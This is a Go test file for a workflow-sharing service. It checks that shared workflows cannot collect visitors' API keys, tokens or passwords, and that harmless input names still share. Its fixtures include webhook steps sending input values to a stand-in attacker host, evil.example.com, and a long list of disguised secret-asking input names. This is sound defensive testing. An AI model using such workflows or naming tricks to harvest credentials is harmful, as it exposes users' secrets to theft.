package sharing_test

import (
	"fmt"
	"strings"
	"testing"

	errorsv1 "github.com/keyhole-dev/keyhole/proto/gen/go/keyhole/errors/v1"
	sharingv1 "github.com/keyhole-dev/keyhole/proto/gen/go/keyhole/sharing/v1"
	"github.com/keyhole-dev/keyhole/services/kit/errs"
	"github.com/keyhole-dev/keyhole/services/kit/testkit"
	"github.com/keyhole-dev/keyhole/services/kit/testkit/attack"
)

// collecting are workflows that pass the value of an input to a prompt, a webhook, a
// template or an output. %[1]s is the input's declaration, %[2]s its name.
var collecting = map[string]string{
	"prompt": `{"version":"1.0","inputs":[%[1]s],"steps":[{"type":"roboflow_core/openai_compatible@v1","name":"llm","base_url":"https://llm.example.com/v1","model_name":"m","prompt":"$inputs.%[2]s"}],
		"outputs":[{"type":"JsonField","name":"o","selector":"$steps.llm.output"}]}`,
	"webhook body": `{"version":"1.0","inputs":[%[1]s],"steps":[{"type":"roboflow_core/webhook_sink@v1","name":"hook","url":"https://evil.example.com/in","method":"POST","json_payload":{"a":"$inputs.%[2]s"}}],
		"outputs":[{"type":"JsonField","name":"o","selector":"$steps.hook.message"}]}`,
	"webhook header": `{"version":"1.0","inputs":[%[1]s],"steps":[{"type":"roboflow_core/webhook_sink@v1","name":"hook","url":"https://evil.example.com/in","method":"POST","headers":{"X-Trace":"$inputs.%[2]s"}}],
		"outputs":[{"type":"JsonField","name":"o","selector":"$steps.hook.message"}]}`,
	"template": `{"version":"1.0","inputs":[%[1]s],"steps":[{"type":"roboflow_core/string_template@v1","name":"t","template":"{{ $parameters.x }}","data":{"x":"$inputs.%[2]s"}}],
		"outputs":[{"type":"JsonField","name":"o","selector":"$steps.t.output"}]}`,
	"output": `{"version":"1.0","inputs":[%[1]s],"steps":[],"outputs":[{"type":"JsonField","name":"o","selector":"$inputs.%[2]s"}]}`,
}

func declared(name, more string) string {
	return fmt.Sprintf(`{"type":"WorkflowParameter","name":%q%s}`, name, more)
}

// TestAttackSecretNamedInput: an owner asks visitors for a key in an ordinary input.
func TestAttackSecretNamedInput(t *testing.T) {
	t.Parallel()
	a := attack.New(t, "A6", "ordinary inputs that ask for a key")
	s := newHarness(t, testkit.SQLite(t), "embedded:")
	n := 0
	for where, workflow := range collecting {
		for _, in := range []struct{ name, more string }{
			{"openai_api_key", ""},
			{"token", ""},
			{"password", ""},
			{"API-KEY", ""},
			{"githubToken", ""},
			{"client_secret_2", ""},
			{"p4ssw0rd", ""},
			{"passwort", ""},
			{"cle_api", ""},
			{"senha", ""},
			{"a", `,"kind":["secret"]`},
			{"a", `,"description":"Your OpenAI API key"`},
			{"a", `,"label":"パスワード"`},
			{"a", `,"ui":{"title":"Password"}`},
			{"a", `,"default_value":"<your API key>"`},
			{"a_p_i_k_e_y", ""},
			{"a", `,"title":"арі_кеу"`},
			{"k3y", ""},
			{"clientsecretvalue", ""},
			{"key_for_openai", ""},
			{"cookie", ""},
			{"webhook_url", ""},
			{"a", `,"title":"sk-... from platform.openai.com"`},
			{"a", `,"title":"Your pass word"`},
			{"a", `,"label":{"de":"Schlüssel für OpenAI"}`},
			{"a", `,"description":"Token type: paste it"`},
			{"a", `,"ui":{"api_key":true}`},
			{"a", `,"placeholder":["clé OpenAI"]`},
		} {
			if strings.Contains(in.more, "kind") && where != "output" { // no such field takes that kind
				continue
			}
			n++
			id := fmt.Sprint("w", n)
			s.workflow("acme", id, fmt.Sprintf(workflow, declared(in.name, in.more), in.name))
			_, err := s.tryShare("acme", id, nil)
			a.Attempt(errs.ReasonOf(err) == errorsv1.Reason_REASON_CREDENTIAL_NOT_CONTAINED && metadataOf(t, err)["input"] == in.name, "%s by %q%s: %v", where, in.name, in.more, err)
		}
	}
	// An existing link does not accept them either.
	s.workflow("acme", "later", fmt.Sprintf(collecting["prompt"], declared("question", ""), "question"))
	share := s.share("acme", "later", &sharingv1.Share{FollowLive: true})
	s.save("acme", "later", fmt.Sprintf(collecting["prompt"], declared("api_key", ""), "api_key"))
	s.settle()
	_, err := s.preview(s.guest("g"), share.GetToken(), "r1", "api_key")
	a.Attempt(errs.ReasonOf(err) == errorsv1.Reason_REASON_CREDENTIAL_NOT_CONTAINED, "through a link that follows: %v", err)
}

// An input with an innocent name is shared, and so is a key in a credential field.
func TestInnocentInputsAreShared(t *testing.T) {
	t.Parallel()
	s := newHarness(t, testkit.SQLite(t), "embedded:")
	names := []string{
		"max_tokens", "token_count", "tokenizer", "tokens", "stop_token", "key", "keys", "keyword", "key_points", "primary_key", "author", "password_length", "question", "passport_number", "secretary",
		"keypoints", "keyframe", "key_frames", "monkey", "turkey", "hotkey", "keyboard", "pinned", "pin_count", "pins", "spinner", "session_length", "cookie_cutter", "passage", "passenger", "compass", "bypass", "authority", "author_name",
		"max_new_tokens", "token_limit", "token_probability", "image_token", "tokyo", "top_k", "k", "sort_key", "key_value", "mask", "desk", "risk", "task", "hash", "seed", "salt", "url", "base_url", "webhook_body", "model_id", "class_name", "access", "signature",
		"credit", "patient", "pattern", "path", "language", "confidence", "api_version", "email", "channel_id", "opc_user_name", "output_directory", "reference", "v", "k1", "text",
	}
	for i, name := range names {
		workflow := collecting[[]string{"prompt", "template", "output"}[i%3]]
		s.workflow("acme", name, fmt.Sprintf(workflow, declared(name, `,"description":"What is asked of the model"`), name))
		s.share("acme", name, nil)
	}
	s.workflow("acme", "contained", strings.NewReplacer(`"key"`, `"openai_api_key"`, "$inputs.key", "$inputs.openai_api_key").Replace(keyInput))
	s.share("acme", "contained", nil)
}
